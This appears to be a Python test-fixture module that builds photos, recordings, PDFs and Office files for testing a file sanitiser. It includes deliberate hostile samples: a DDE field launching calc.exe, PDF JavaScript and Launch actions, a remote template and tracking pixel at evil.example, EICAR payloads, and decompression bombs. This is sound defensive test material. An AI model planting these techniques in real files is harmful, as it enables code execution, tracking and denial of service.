"""Files as phones and office programs write them, and files made to harm. All are made at run time, each once a session."""

from __future__ import annotations

import io
import struct
import subprocess
import tempfile
import zipfile
import zlib
from collections.abc import Sequence
from functools import cache
from pathlib import Path

import pikepdf
import pillow_heif
from pikepdf import Array, Dictionary, Name, String
from PIL import Image, ImageDraw

from submissions.media.tools import find_ffmpeg
from tests.submissions.samples import EICAR

WHO = "Jane Doe"
SECRETS = (b"Jane", b"Doe", b"iPhone", b"40.7", b"2026", b"loci")
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
ODT = "application/vnd.oasis.opendocument.text"
SPEECH = "We measured how long the shadow of the flag pole was at every full hour and drew what we found. "


# --- Pictures -----------------------------------------------------------------------------------------------


def drawing(width: int = 640, height: int = 400) -> Image.Image:
    """Something that has a top: its upper left corner is red."""
    shades = Image.radial_gradient("L").resize((width, height))
    image = Image.merge("RGB", (shades.point(lambda _: 0), shades, shades))
    ImageDraw.Draw(image).rectangle((0, 0, width // 2, height // 2), fill="red")
    return image


@cache
def photo(kind: str = "JPEG", width: int = 640, height: int = 400) -> bytes:
    """As a phone held upright writes it: the picture lies on its side, with position, device and owner."""
    pillow_heif.register_heif_opener()
    exif = Image.Exif()
    exif[0x0112], exif[0x010F], exif[0x0110], exif[0x013B] = 6, "Apple", "iPhone 15", WHO
    exif[0x0132] = "2026:11:22 10:00:00"
    place = exif.get_ifd(0x8825)
    place[1], place[2] = "N", (40.0, 42.0, 46.0)
    out = io.BytesIO()
    drawing(width, height).save(out, kind, exif=exif.tobytes())
    return out.getvalue()


@cache
def png_of(width: int, height: int) -> bytes:
    """One colour, so that it is tiny whatever it unfolds to."""
    row = b"\0" + b"\0" * ((width + 7) // 8)
    packer = zlib.compressobj(9)
    data = b"".join([*(packer.compress(row) for _ in range(height)), packer.flush()])

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


# --- Recordings ---------------------------------------------------------------------------------------------

PICTURE = ("-f", "lavfi", "-i", "testsrc2=size=320x180:rate=15:duration=2")
SOUND = ("-f", "lavfi", "-i", "sine=frequency=440:duration=2")
TOLD = (
    "-metadata", f"title={WHO}", "-metadata", f"artist={WHO}", "-metadata", "location=+40.7-074.0/",
    "-metadata", "com.apple.quicktime.model=iPhone 15", "-metadata", "creation_time=2026-11-22T10:00:00Z",
)  # fmt: skip
AAC = ("-c:a", "aac")
H264 = ("-c:v", "libx264", "-preset", "ultrafast", "-pix_fmt", "yuv420p")
AMR = ("-c:a", "libopencore_amrnb", "-ar", "8000", "-ac", "1", "-b:a", "12.2k")
RECORDINGS: dict[str, tuple[str, ...]] = {
    "iphone.mov": (*PICTURE, *SOUND, "-c:v", "libx265", "-preset", "ultrafast", "-x265-params", "log-level=0:info=0", "-tag:v", "hvc1", *AAC, "-timecode", "01:00:00:00", "-movflags", "use_metadata_tags"),
    "older iphone.mov": (*PICTURE, *SOUND, *H264, *AAC),
    "android.mp4": (*PICTURE, *SOUND, *H264, *AAC),
    "memo.m4a": (*SOUND, *AAC),
    "old phone.3gp": ("-f", "lavfi", "-i", "testsrc2=size=176x144:rate=15:duration=2", *SOUND, "-c:v", "h263", *AMR, "-f", "3gp"),
    "voice.3gp": (*SOUND, *AMR, "-f", "3gp"),
    "browser.webm": (*PICTURE, *SOUND, "-c:v", "libvpx", "-deadline", "realtime", "-c:a", "libopus"),
    "browser sound.webm": (*SOUND, "-c:a", "libopus"),
    "song.mp3": (*SOUND, "-c:a", "libmp3lame"),
    "note.wav": SOUND,
    "note.ogg": (*SOUND, "-c:a", "libopus"),
}  # fmt: skip


@cache
def recording(name: str) -> bytes:
    """A film or sound of two seconds, with everything a device writes about itself and its owner."""
    return ffmpeg([*RECORDINGS[name], *TOLD], Path(name).suffix)


@cache
def lying_film() -> bytes:
    """A phone's film held upright: turned by a note, not in its pixels."""
    with tempfile.NamedTemporaryFile(suffix=".mov") as file:
        file.write(recording("older iphone.mov"))
        file.flush()
        return ffmpeg(["-display_rotation", "90", "-i", file.name, "-c", "copy"], ".mov")


def ffmpeg(arguments: Sequence[str], ending: str) -> bytes:
    """What ffmpeg makes of these arguments."""
    with tempfile.NamedTemporaryFile(suffix=ending) as file:
        subprocess.run(
            [find_ffmpeg(), "-nostdin", "-loglevel", "error", "-y", *arguments, file.name],
            check=True,
            timeout=60,
        )
        return Path(file.name).read_bytes()


def claiming(seconds: int) -> bytes:
    """A film of two seconds whose header says that it lasts longer."""
    raw = bytearray(recording("android.mp4"))
    for box in (b"mvhd", b"mdhd"):
        at = 0
        while (at := raw.find(box, at)) >= 0:
            at += 16
            (scale,) = struct.unpack_from(">I", raw, at)
            struct.pack_into(">I", raw, at + 4, min(scale * seconds, 2**32 - 1))
    return bytes(raw)


def stretched(seconds: int) -> bytes:
    """A film of two seconds whose index gives every picture so long that it does last longer."""
    raw = bytearray(recording("android.mp4").replace(b"edts", b"free"))
    at = raw.find(b"stts")
    (entries,) = struct.unpack_from(">I", raw, at + 8)
    for entry in range(entries):
        struct.pack_into(">I", raw, at + 16 + entry * 8, seconds * 15360 // 30)
    return bytes(raw)


# --- PDF ----------------------------------------------------------------------------------------------------


def _link(action: Dictionary) -> Dictionary:
    return Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)


@cache
def pdf(pages: int = 3) -> bytes:
    """With scripts, a program inside, actions, remarks with names, and properties."""
    made = pikepdf.new()
    font = made.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    for number in range(pages):
        page = made.add_blank_page(page_size=(595, 842))
        page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
        lines = "".join(f"({SPEECH}{number}.{line}) Tj T*\n" for line in range(12))
        page.obj.Contents = made.make_stream(f"BT /F1 9 Tf 14 TL 40 800 Td\n{lines}ET".encode())
    script = Dictionary(S=Name.JavaScript, JS=String("app.alert('script-in-pdf')"))
    made.Root.OpenAction = script
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script])))
    made.attachments["tool.exe"] = b"MZ program-in-pdf"
    first = made.pages[0].obj
    first.AA = Dictionary(O=Dictionary(S=Name.Launch, F=String("launch-in-pdf.exe")))
    first.Annots = Array(
        [
            made.make_indirect(_link(Dictionary(S=Name.Launch, F=String("launch-in-pdf.exe")))),
            made.make_indirect(_link(Dictionary(S=Name.URI, URI=String("https://example.org/")))),
            made.make_indirect(
                Dictionary(Type=Name.Annot, Subtype=Name.Text, Rect=Array([0, 0, 9, 9]), T=String(WHO), Contents=String("well done"))
            ),
        ]
    )  # fmt: skip
    made.docinfo["/Author"], made.docinfo["/Title"] = WHO, f"Plan of {WHO}"
    with made.open_metadata() as metadata:
        metadata["dc:creator"] = [WHO]
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


@cache
def locked_pdf() -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as made:
        made.save(out, encryption=pikepdf.Encryption(owner="o", user="u"))
    return out.getvalue()


@cache
def pdf_bomb(megabytes: int = 400) -> bytes:
    """A page whose content unfolds to more memory than there is."""
    made = pikepdf.new()
    page = made.add_blank_page()
    once = zlib.compressobj(9)
    spaces = b"".join([*(once.compress(b" " * 1024**2) for _ in range(megabytes)), once.flush()])
    page.obj.Contents = pikepdf.Stream(made, spaces, Filter=Name.FlateDecode)
    out = io.BytesIO()
    made.save(out, recompress_flate=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    return out.getvalue()


# --- Office -------------------------------------------------------------------------------------------------


def package(parts: dict[str, str | bytes]) -> bytes:
    """A ZIP, packed as office programs pack theirs."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in parts.items():
            archive.writestr(name, body)
    return out.getvalue()


def relations(*rows: tuple[str, str, str, str]) -> str:
    """A list of relations: id, kind, target, mode."""
    inner = "".join(
        f'<Relationship Id="{key}" Type="{R}/{kind}" Target="{target}" TargetMode="{mode}"/>'
        for key, kind, target, mode in rows
    )
    return f'<Relationships xmlns="{PACKAGE}/relationships">{inner}</Relationships>'


def types(*parts: str) -> str:
    inner = "".join(f'<Override PartName="/{part}" ContentType="application/xml"/>' for part in parts)
    return f'<Types xmlns="{PACKAGE}/content-types">{inner}</Types>'


def _core() -> str:
    return (
        f'<cp:coreProperties xmlns:cp="{PACKAGE}/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/">'
        f"<dc:creator>{WHO}</dc:creator><dc:title>{WHO}</dc:title></cp:coreProperties>"
    )


@cache
def docx() -> bytes:
    """With tracked changes, remarks, a remote template, a photo, an embedded program and a field that starts one."""
    body = (
        f'<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body><w:p><w:r><w:t>{SPEECH}</w:t></w:r>'
        f'<w:ins w:id="1" w:author="{WHO}"><w:r><w:t>added later</w:t></w:r></w:ins></w:p>'
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r><w:r>'
        '<w:instrText>AUTO c:\\\\calc.exe</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        '<w:p><w:hyperlink r:id="rId4"><w:r><w:t>our page</w:t></w:r></w:hyperlink></w:p></w:body></w:document>'
    )
    comments = f'<w:comments xmlns:w="{W}"><w:comment w:id="1" w:author="{WHO}" w:initials="JD"><w:p><w:r><w:t>good</w:t></w:r></w:p></w:comment></w:comments>'
    settings = f'<w:settings xmlns:w="{W}" xmlns:r="{R}"><w:attachedTemplate r:id="rId1"/></w:settings>'
    return package(
        {
            "[Content_Types].xml": types("word/document.xml", "docProps/core.xml", "docProps/thumbnail.jpeg"),
            "_rels/.rels": relations(("rId1", "officeDocument", "word/document.xml", "Internal"), ("rId2", "thumbnail", "docProps/thumbnail.jpeg", "Internal")),
            "docProps/core.xml": _core(),
            "docProps/app.xml": f"<Properties><Company>{WHO}</Company></Properties>",
            "docProps/thumbnail.jpeg": photo(),
            "word/document.xml": body,
            "word/comments.xml": comments,
            "word/settings.xml": settings,
            "word/_rels/settings.xml.rels": relations(("rId1", "attachedTemplate", "https://evil.example/t.dotm", "External")),
            "word/_rels/document.xml.rels": relations(
                ("rId3", "image", "https://evil.example/pixel.png", "External"), ("rId4", "hyperlink", "https://example.org/", "External"),
                ("rId5", "image", "media/image1.jpeg", "Internal"), ("rId6", "oleObject", "embeddings/oleObject1.bin", "Internal"),
            ),
            "word/media/image1.jpeg": photo(),
            "word/media/image2.png": EICAR,
            "word/embeddings/oleObject1.bin": EICAR,
            "tool.exe": EICAR,
            "customXml/item1.xml": f"<owner>{WHO}</owner>",
        }
    )  # fmt: skip


@cache
def pptx() -> bytes:
    a = "http://schemas.openxmlformats.org/drawingml/2006/main"
    slide = f'<p:sld xmlns:p="urn:p" xmlns:a="{a}"><a:p><a:r><a:t>The first slide</a:t></a:r></a:p></p:sld>'
    return package(
        {
            "[Content_Types].xml": types("ppt/presentation.xml"),
            "_rels/.rels": relations(("rId1", "officeDocument", "ppt/presentation.xml", "Internal")),
            "docProps/core.xml": _core(),
            "ppt/presentation.xml": '<p:presentation xmlns:p="urn:p"/>',
            "ppt/slides/slide1.xml": slide,
            "ppt/commentAuthors.xml": f'<p:cmAuthorLst xmlns:p="urn:p"><p:cmAuthor id="0" name="{WHO}" initials="JD"/></p:cmAuthorLst>',
            "ppt/media/media1.mp4": recording("android.mp4"),
        }
    )


@cache
def xlsx() -> bytes:
    x = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return package(
        {
            "[Content_Types].xml": types("xl/workbook.xml"),
            "_rels/.rels": relations(("rId1", "officeDocument", "xl/workbook.xml", "Internal")),
            "docProps/core.xml": _core(),
            "xl/workbook.xml": f'<workbook xmlns="{x}"><absPath url="C:\\Users\\{WHO}"/></workbook>',
            "xl/sharedStrings.xml": f'<sst xmlns="{x}"><si><t>Shadow in cm</t></si></sst>',
            "xl/comments1.xml": f'<comments xmlns="{x}"><authors><author>{WHO}</author></authors></comments>',
            "xl/tables/table1.xml": f'<table xmlns="{x}" name="Table1" displayName="Table1"/>',
            "xl/persons/person.xml": f'<personList><person displayName="{WHO}" id="1" userId="{WHO}" providerId="AD"/></personList>',
        }
    )


@cache
def odt() -> bytes:
    o, t, d = (f"urn:oasis:names:tc:opendocument:xmlns:{n}:1.0" for n in ("office", "text", "drawing"))
    body = (
        f'<office:document-content xmlns:office="{o}" xmlns:text="{t}" xmlns:draw="{d}" xmlns:dc="http://purl.org/dc/elements/1.1/"'
        ' xmlns:xlink="http://www.w3.org/1999/xlink"><office:body><text:p>Our <text:span>shadow</text:span> study'
        f"<office:annotation><dc:creator>{WHO}</dc:creator><text:p>a remark</text:p></office:annotation></text:p>"
        '<text:p><draw:image xlink:href="https://evil.example/pixel.png"/><text:a xlink:href="https://example.org/">page</text:a>'
        "</text:p></office:body></office:document-content>"
    )
    return package(
        {
            "mimetype": ODT,
            "content.xml": body,
            "meta.xml": f'<office:document-meta xmlns:office="{o}"><office:meta>{WHO}</office:meta></office:document-meta>',
            "Thumbnails/thumbnail.png": png_of(8, 8),
            "META-INF/manifest.xml": '<m:manifest xmlns:m="urn:m"><m:file-entry m:full-path="/"/><m:file-entry m:full-path="content.xml"/>'
            '<m:file-entry m:full-path="Thumbnails/thumbnail.png"/></m:manifest>',
        }
    )


@cache
def office_bomb() -> bytes:
    """A document that unfolds to 400 MB."""
    return package({"[Content_Types].xml": types(), "word/document.xml": b" " * (400 * 1024**2)})
